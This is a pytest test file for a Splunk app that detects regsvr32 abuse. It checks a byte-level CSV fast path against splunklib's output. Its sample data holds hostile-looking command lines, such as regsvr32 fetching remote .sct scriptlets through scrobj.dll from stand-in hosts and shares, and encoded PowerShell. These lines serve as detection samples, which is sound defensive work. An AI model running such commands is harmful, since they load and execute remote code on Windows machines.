"""The byte-level path (app/bin/regsvr32_fastpath.py) writes exactly what splunklib writes.

Generated chunks (quoted newlines with CRLF and LF, __mv_ fields, NUL, empty values, markers in
any field and any case, an output field already in the input, quoting the csv writer would not
write) go through the real protocol three times: as shipped, on splunklib's own record path, and
with only the byte-level path allowed (the lean and splunklib chunk paths fail), and the replies
are compared byte for byte. ``plan`` must take the chunks it can prove and name why it leaves
the others.
"""
import csv
import hashlib
import inspect
import io
import random
import shutil
import sys

import pytest

from support import chunked
import regsvr32_fastpath
from regsvr32_detector.bytemarks import spans
from regsvr32_detector import OUTPUT_FIELDS, cmdline, fields
from support.samples import BENIGN, SAMPLES
from test_leanio import SPLUNKLIB_ONLY, run_raw, splunkd_body

# test: a slice is a line or a few, so that chunks are proven and answered in many slices
SMALL_SLICES = "\n\nSLICE_BYTES = 200\n"
FAST_ONLY = ("\n\n# test: the lean and splunklib chunk paths fail, so only the byte-level path answers\n"
             "def _not_here(*args):\n"
             "    raise AssertionError('not the byte-level path')\n"
             "SearchCommand._execute_chunk_v2 = _not_here\n"
             "ChunkedCommand._lean_rows_to = _not_here\n")

PLAIN = ["", "-", "0", "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p", "CORP\\alice",
         '"C:\\Program Files\\App\\app.exe" --flag', "a,b", 'say "hi"', "caf\u00e9 \u2013 \U0001F600",
         "$5 $$", "x" * 300, " lead and trail ", "\tTab", "100%", "powershell -NoProfile -File a.ps1",
         "pwsh Get-Item", "K\u212a sign", "\u0130:HTTP is not a mark",
         # a hint and "-e", but no base64 run long enough to hide "regsvr32" (22 characters)
         "powershell -ExecutionPolicy Bypass -enc aGVsbG8=", "pwsh -e cgBlAGcAcwB2AHIAMwAyA",
         # "i:", but no share, URL or scrobj once quotes are dropped; an encoded command, no PowerShell
         "msiexec /i:x.msi /qn", 'setup.exe "/i:C:\\x\\y.ini"', "x.exe -enc cgBlAGcAcwB2AHIAMwAyAA=="]
MARKED = ["REGSVR32 /s x.dll", "C:\\Windows\\SysWOW64\\RegSvr32.exe", "Microsoft(C) REGISTER Server",
          "SCROBJ.DLL", "HKCU\\Software\\Classes\\CLSID\\{x}\\ScriptletURL", "/I:HTTPS://a.example/b.sct",
          "powershell -E cgBlAGcAcwB2AHIAMwAyAA==", "PWSH -enc eAByAGUAZwBzAHYAcgAzADIA",
          '"regsvr32" /u "a,b.dll"',
          # a renamed copy's command line (fields.RUNS_LIKE) and encoded PowerShell, any switch prefix
          "svc.exe /s /i:\\\\10.1.2.3\\s\\a.sct x.dll", 'svc.exe /s /i:"http://h.example/a.sct" x.dll',
          'svc.exe /s /I:C:\\x\\a.sct SCR""OBJ.dll', "svc.exe /i://h/s/a.sct x.dll",
          "svc.exe /i:\\??\\UNC\\h\\s\\a.sct x.dll", "powershell /enc cgBlAGcAcwB2AHIAMwAyAA==",
          "pwsh \u2013e 'eAByAGUAZwBzAHYAcgAzADIA'", 'powershell -ec "cgBlAGcAcwB2AHIAMwAyAA=="']
FIELDS = ["_time", "host", "CommandLine", "Image", "ParentImage", "User", "note", "EventCode"]


def value(rnd, multi):
    pick = rnd.random()
    if pick < 0.02:             # a row in ten or so is marked (a chunk mostly marked is the lean path's)
        return rnd.choice(MARKED)
    if pick < 0.04 and multi:
        return [rnd.choice(PLAIN), rnd.choice(PLAIN + MARKED)]     # a multivalue field
    if pick < 0.06 and multi:
        return [rnd.choice(PLAIN + MARKED)]                         # one value, with its __mv_ cell
    return rnd.choice(PLAIN)


def rows(rnd, n, extra=(), multi=False):
    names = FIELDS[:rnd.randint(2, len(FIELDS))] + list(extra)
    return [dict((name, value(rnd, multi)) for name in names) for _ in range(n)]


def cim_body(rows_, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL):
    """One column per field, no __mv_ columns (a multivalue field as its joined value)."""
    names = list(rows_[0])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator, quoting=quoting)
    writer.writerow(names)
    for row in rows_:
        writer.writerow(["\n".join(v) if isinstance(v, list) else v for v in (row[n] for n in names)])
    return out.getvalue().encode("utf-8")


def generated_bodies(seed):
    """(body, what the byte-level path must do: True take it, False leave it, None either)."""
    rnd = random.Random(seed)
    bodies = []
    for i in range(12):
        plain = rows(rnd, rnd.randint(1, 60))
        # taken unless a quarter of the rows are marked (then the lean path is faster)
        bodies.append((cim_body(plain), None))
        bodies.append((cim_body(plain, lineterminator="\n"), None))      # LF line ends
        bodies.append((splunkd_body(plain), None))
        bodies.append((chunked.to_csv(plain), None))                     # splunkd's own layout
        bodies.append((chunked.to_csv(rows(rnd, rnd.randint(1, 60), multi=True)), None))
        # multivalue fields: a newline-joined value is a quoted line break, left to the lean path
        bodies.append((splunkd_body(rows(rnd, rnd.randint(1, 60), multi=True)), None))
    newline_rows = [dict(r, note="line one\r\nline two") for r in rows(rnd, 5)]
    bodies += [
        (cim_body(newline_rows), False),                                   # quoted CRLF
        (cim_body([dict(r, note="a\nb") for r in rows(rnd, 5)], lineterminator="\n"), False),  # LF
        (splunkd_body(newline_rows), False),
        # a mark after a quoted line break: that line alone is not a row
        (cim_body([{"a": "x", "note": "a\r\nregsvr32 /s C:\\Users\\Public\\x.dll,z"}] * 2
                  + [{"a": "y", "note": "b"}] * 10), False),
        (cim_body([dict(r, note="a\0b") for r in rows(rnd, 5)]), False),   # NUL
        (cim_body(rows(rnd, 5, extra=["regsvr32_score"])), False),          # an output field
        (cim_body(rows(rnd, 5), quoting=csv.QUOTE_ALL), None),             # quotes not needed: dropped
        (b"a,b\r\n1,2\r\n\r\n3,4\r\n", False),                               # an empty line
        (b"a,b\r\n1,2\r\n3\r\n", False),                                     # a ragged row
        (b'a,b\r\nx"y,2\r\n', False),                                        # a quote inside a field
        (b'a,b\r\n"x"y,2\r\n', False),                                       # text after a quoted field
        (b"a,b\r\n1,2", False),                                              # no line end
        (b'a,b\r\n"x,1"y,2\r\n', False),                                      # text after a quoted field
        (b'a,b\r\nz"x,1",2\r\n', False),                                      # text before one
        (b'a,b\r\n1,2\r\n3,4\n', False),                                      # mixed line ends
        (b"a,b\r\n\xff\xfe caf\xc3\xa9,2\r\n" + b"x,1\r\n" * 8, True),  # not UTF-8: U+FFFD as splunklib
        (b"a,__mv_a,b,__mv_b\r\nx,,1,\r\ny,z,2,\r\nx,,3,\r\nx,,4,\r\nx,,5,\r\n", True),  # a filled __mv_ cell
    ]
    return bodies


def test_plan_takes_what_it_can_prove_and_says_why_not():
    # a bare CR: splunklib's reader stops the search, so it is only for plan here
    for body, fast in generated_bodies(1) + [(b"a,b\r\n1,2\r3\r\n", False)]:
        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
        if fast is not None:
            assert (chunk is not None) == fast, (why, body[:300])
        assert (chunk is None) == (why is not None)


def test_plan_marks_the_rows_that_may_concern_regsvr32():
    plain = PLAIN * 3
    for layout in (chunked.LAYOUT, chunked.PYTHON):
        body = chunked.to_csv([{"CommandLine": v, "b": "x"} for v in plain + MARKED + ["$x"]], layout)
        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
        assert why is None
        # the encoded PowerShell rows count only with "-e": plain PowerShell rows are copied
        assert chunk.marked == list(range(len(plain), len(plain) + len(MARKED))), layout
    mostly = splunkd_body([{"a": v, "b": "x"} for v in PLAIN + MARKED])
    assert regsvr32_fastpath.plan(mostly, OUTPUT_FIELDS, spans)[1].startswith("mostly marked")
    mv = splunkd_body([{"a": ["only"], "b": "1"}] + [{"a": "x", "b": "2"}] * 5)   # a filled __mv_ cell
    assert regsvr32_fastpath.plan(mv, OUTPUT_FIELDS, spans)[0].marked == [0]


def test_plan_searches_only_the_fields_the_cheap_test_reads():
    # A mark in _raw or another field that fields.mentions_regsvr32 does not read cannot make a
    # row concern regsvr32: such rows are copied, the others marked wherever their quoted
    # fields are (a value that needs its quotes, or not), in both layouts and in small slices.
    rows_ = []
    for i, v in enumerate(MARKED * 2):
        quoted = 'say ""hi"", ' if i % 2 else ""
        rows_.append({"_raw": "CommandLine=%s" % v, "note": v, "CommandLine": quoted + "x.exe",
                      "Image": "C:\\a,b\\x.exe" if i % 3 else "x"})
        rows_.append({"_raw": "x", "note": "y", "CommandLine": quoted + v, "Image": "x"})
        rows_.append({"_raw": "x", "note": "y", "CommandLine": "a,b", "Image": v})
    rows_ += [{"_raw": "x", "note": "y", "CommandLine": "x", "Image": "x"}] * 500
    want = [i for i, row in enumerate(rows_) if fields.mentions_regsvr32(row)]
    assert len(want) == 4 * len(MARKED)
    for layout in (chunked.LAYOUT, chunked.PYTHON):
        body = chunked.to_csv(rows_, layout)
        for size in (1 << 17, 300):
            regsvr32_fastpath.SLICE_BYTES, saved = size, regsvr32_fastpath.SLICE_BYTES
            try:
                chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
            finally:
                regsvr32_fastpath.SLICE_BYTES = saved
            assert why is None, why
            assert chunk.marked == want, (layout, size)


def test_both_forms_of_the_quoted_field_pattern_split_alike():
    # QUOTED is the possessive form on Python 3.11 and later, the look-ahead form before: both
    # must find the same fields, on generated chunks and on short runs of the bytes that matter
    if sys.version_info < (3, 11):
        pytest.skip("possessive repeats need Python 3.11")
    possessive, lookahead = regsvr32_fastpath.QUOTED_POSSESSIVE, regsvr32_fastpath.QUOTED_LOOKAHEAD
    assert regsvr32_fastpath.QUOTED is possessive

    def split(pattern, s):
        parts = pattern.split(s)
        if pattern.groups > 1:
            del parts[2::3]
        return parts
    texts = [body for body, _ in generated_bodies(2)] + [splunkd_body(rows(random.Random(4), 60))]
    rnd = random.Random(23)
    alphabet = [b'"', b",", b"\n", b"\r\n", b"\r", b"a", b'""', b'","', b"b c"]
    texts += [b"".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 16))) for _ in range(30000)]
    found = 0
    for s in texts:
        want = split(lookahead, s)
        assert split(possessive, s) == want, s
        found += len(want) > 1
    assert found > 3000


@pytest.fixture(scope="module")
def fast_variants(tmp_path_factory):
    from conftest import APP, LIB
    import os
    scripts = {}
    for name, patch, slices in (("shipped", "", ""), ("splunklib", SPLUNKLIB_ONLY, ""),
                                ("fast", FAST_ONLY, ""), ("fast_sliced", FAST_ONLY, SMALL_SLICES)):
        copy = tmp_path_factory.mktemp(name) / "regsvr32detect"
        shutil.copytree(APP, str(copy), symlinks=True,
                        ignore=shutil.ignore_patterns("lib", "local", "__pycache__", "*.pyc"))
        os.symlink(LIB, str(copy / "bin" / "lib"))
        with open(str(copy / "bin" / "regsvr32_protocol.py"), "a") as f:
            f.write(patch)
        with open(str(copy / "bin" / "regsvr32_fastpath.py"), "a") as f:
            f.write(slices)
        scripts[name] = str(copy / "bin" / "regsvr32detect.py")
    return scripts


@pytest.mark.parametrize("args", [[], ["mode=filter"], ["mode=filter", "min_score=0"],
                                  ["include_allowlisted=f"]])
def test_same_bytes_as_splunklib(fast_variants, args):
    bodies = generated_bodies(7)
    shipped = run_raw(fast_variants["shipped"], args, [b for b, _ in bodies])
    reference = run_raw(fast_variants["splunklib"], args, [b for b, _ in bodies])
    assert shipped[1] == 0, shipped[2]
    assert len(shipped[0]) == len(bodies) + 1
    for i, (got, want) in enumerate(zip(shipped[0], reference[0])):
        assert got == want, (i, bodies[i - 1][0][:300] if i else "getinfo")
    # the chunks the byte-level path must take, it takes, and alone gives the same bytes
    real = [chunked.to_csv([BENIGN] * 20 + SAMPLES[:3]), chunked.to_csv(rows(random.Random(3), 40))]
    for body in real:           # splunkd's own layout is the byte-level path's too
        assert regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)[0] is not None, body[:300]
    fast_bodies = [b for b, fast in bodies if fast or fast is None and regsvr32_fastpath.plan(
        b, OUTPUT_FIELDS, spans)[0]] + [splunkd_body(SAMPLES[:3] + [BENIGN] * 20), chunked.to_csv(
            [BENIGN] * 20 + SAMPLES[:3], chunked.PYTHON)] + real
    assert len(fast_bodies) >= 25
    want = run_raw(fast_variants["splunklib"], args, fast_bodies)[0]
    for variant in ("fast", "fast_sliced"):
        fast = run_raw(fast_variants[variant], args, fast_bodies)
        assert fast[1] == 0, (variant, fast[2])
        assert fast[0] == want, variant


def test_slices_prove_and_mark_as_the_whole_chunk(monkeypatch):
    # a chunk in slices of a line or a few: the same verdict, the same marked rows
    for body, _ in generated_bodies(3):
        whole = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
        monkeypatch.setattr(regsvr32_fastpath, "SLICE_BYTES", 50)
        sliced = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
        monkeypatch.undo()
        assert (whole[1] is None) == (sliced[1] is None), (whole[1], sliced[1], body[:300])
        if whole[0] is not None:
            assert sliced[0].marked == whole[0].marked


# What regsvr32_detector.bytemarks.BLOB's proof reads (see there), and the "i:" test it repeats on bytes
# (RUNS_LIKE, SLASHED): if one of these changes, check that a row with a hint but no match of
# BLOB still cannot concern regsvr32, and that _holds still marks every row with "i:" that
# mentions_regsvr32 passes (tests/test_cheap_test.py looks), then update its hash here.
BLOB_PROOF_PINS = {
    "fields.mentions_regsvr32": (lambda: inspect.getsource(fields.mentions_regsvr32), "1a45a90293b98b98"),
    "fields.RUNS_LIKE": (lambda: repr(fields.RUNS_LIKE), "087ec1a2eb3abfdd"),
    "fields.ENCODED_HINTS": (lambda: repr(fields.ENCODED_HINTS), "04ce81269af70271"),
    "cmdline.has_encoded_switch": (lambda: inspect.getsource(cmdline.has_encoded_switch), "04e7a7530efe53a5"),
    "cmdline._ENCODED_SWITCH": (lambda: "%s %d" % (cmdline._ENCODED_SWITCH.pattern, cmdline._ENCODED_SWITCH.flags),
                                "5199b6d089c3b005"),
    "cmdline.encoded_commands": (lambda: inspect.getsource(cmdline.encoded_commands), "06523f3ff57f65c6"),
    # decoded from this many base64 characters: at most BLOB's 22 (else BLOB marks fewer rows)
    "cmdline.MIN_ENCODED_CHARS": (lambda: repr(cmdline.MIN_ENCODED_CHARS), "785f3ec7eb32f30b"),
    "cmdline._ENCODED": (lambda: "%s %d" % (cmdline._ENCODED.pattern, cmdline._ENCODED.flags),
                         "fb973374bbf16f29"),
}


@pytest.mark.parametrize("name", sorted(BLOB_PROOF_PINS))
def test_the_code_the_blob_proof_reads_is_pinned(name):
    source, pinned = BLOB_PROOF_PINS[name]
    assert hashlib.sha256(source().encode("utf-8")).hexdigest()[:16] == pinned, name


def test_every_row_left_unmarked_cannot_concern_regsvr32():
    # fields.mentions_regsvr32 is the definition: plan may mark more rows, never fewer
    hidden = ["powershell -e cgBlAGcAcwB2AHIAMwAyAA==", "powershell x -enc eAByAGUAZwBzAHYAcgAzADIA y",
              "pwsh.exe -EncodedCommand cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==",
              "powershell.exe /ec cgBlAGcAcwB2AHIAMwAyAA==", 'pwsh \u2014enc "eAByAGUAZwBzAHYAcgAzADIA"',
              "svc.exe /i:\\\\h\\s\\a.sct x.dll", 'svc.exe /i:C:\\a.sct "scr""obj.dll"']
    checked = 0
    for body, _ in generated_bodies(5) + [(cim_body([{"CommandLine": v, "host": "h"}
                                                     for v in PLAIN + hidden]), None)]:
        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
        if chunk is None:
            continue
        reader = csv.reader(io.StringIO(body.decode("utf-8", "replace"), newline=""))
        names = next(reader)
        for i, cells in enumerate(reader):
            record = dict((n, v) for n, v in zip(names, cells) if not n.startswith("__mv_"))
            if i not in chunk.marked:
                assert not fields.mentions_regsvr32(record), record
                checked += 1
            for value in hidden:
                if value in cells:
                    assert i in chunk.marked and fields.mentions_regsvr32(record), record
    assert checked > 500


def test_filter_mode_takes_more_chunks_with_the_same_bytes(fast_variants):
    # Filter mode copies nothing, so rows need only be lines: chunks the copy proof refuses
    # (ragged, empty lines, text around quoted fields, mixed line ends) are
    # done by the byte-level path alone, and give splunklib's bytes; so are filled __mv_ cells.
    marked = "regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll"
    bodies = [
        b"a,b\r\n1,2\r\n\r\n3,4\r\n" + b'"%s",x\r\n' % marked.encode(),
        b"a,b\r\n1,2\r\n3\r\n" + b"%s,x\r\n" % marked.encode(),
        b'a,b\r\n"x"y,2\r\n' + b"%s,x\r\n" % marked.encode(),
        b'a,b\r\nz"x,1",2\r\n' + b"%s,x\r\n" % marked.encode(),
        b'a,b\r\n1,2\r\n3,4\n' + b"%s,x\n" % marked.encode(),
        cim_body([{"process": v, "b": "1"} for v in PLAIN[:8] + [marked]], quoting=csv.QUOTE_ALL),
        b"a,__mv_a,b,__mv_b\r\nx,,1,\r\ny,$z$;$w$,2,\r\n" + b"%s,,3,\r\n" % marked.encode(),
    ]
    for body in bodies[:5]:
        assert regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)[0] is None, body   # annotate: refused
    assert regsvr32_fastpath.plan(bodies[5], OUTPUT_FIELDS, spans)[0] is not None   # quotes dropped
    for args in (["mode=filter"], ["mode=filter", "min_score=0"]):
        want = run_raw(fast_variants["splunklib"], args, bodies)
        for variant in ("fast", "fast_sliced"):
            got = run_raw(fast_variants[variant], args, bodies)
            assert got[1] == 0, (variant, got[2])
            assert got[0] == want[0], variant
    # a quoted line break or a bare CR is not a chunk of lines: the lean path does those
    plain = b"x,1\r\n" * 20
    for body, why in ((b"a,b\r\n" + plain + b'"%s","a\r\nb"\r\n' % marked.encode(), "quoted line break"),
                      (b"a,b\r\n" + plain + b'"%s","a\nb"\r\n' % marked.encode(), "quoted line break"),
                      (b"a,b\r\n" + plain + b"1,2\r3\r\n", "bare CR")):
        chunk, _ = regsvr32_fastpath._chunk(body, OUTPUT_FIELDS, spans)
        with pytest.raises(regsvr32_fastpath.NotProven, match=why):
            list(regsvr32_fastpath._rows(chunk))
